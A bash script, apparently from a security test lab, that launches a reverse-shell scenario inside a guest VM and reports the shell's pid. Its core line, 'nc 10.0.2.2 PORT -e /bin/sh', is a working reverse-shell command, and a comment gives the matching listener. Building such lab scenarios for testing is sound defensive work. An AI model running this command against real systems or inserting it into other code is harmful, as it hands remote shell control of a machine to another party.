#!/usr/bin/env bash
# Lab scenario: a reverse shell. The guest's busybox nc connects to the
# host's 127.0.0.1:PORT through the user-mode network's gateway 10.0.2.2
# and runs /bin/sh on the connection (nc -e): the shell's standard input,
# output and error are the TCP socket.
#
#   lab/scenarios/reverse-shell.sh start --name NAME --port PORT
#   lab/scenarios/reverse-shell.sh stop --name NAME
#
# Something must listen on the host's 127.0.0.1:PORT first (the e2e test
# does; by hand: nc -l 127.0.0.1 PORT). start prints pid=PID (the shell)
# and remote=10.0.2.2:PORT.
. "$(dirname "$0")/common.sh"
scn_parse "$@"
case $scn_cmd in
start)
	[[ $scn_port =~ ^[0-9]+$ ]] || { echo "reverse-shell.sh: --port PORT is required" >&2; exit 2; }
	scn_kill reverse-shell
	out=$(scn_exec "nc 10.0.2.2 $scn_port -e /bin/sh </dev/null >/dev/null 2>&1 & echo \$! > /tmp/hvs-scn-reverse-shell.pid; cat /tmp/hvs-scn-reverse-shell.pid")
	pid=$(printf '%s\n' "$out" | tr -d '\r' | grep -E '^[0-9]+$' | tail -n 1)
	[ -n "$pid" ] || { echo "reverse-shell.sh: no pid from the guest: $out" >&2; exit 1; }
	echo "pid=$pid"
	echo "remote=10.0.2.2:$scn_port"
	;;
stop)
	scn_kill reverse-shell
	;;
esac
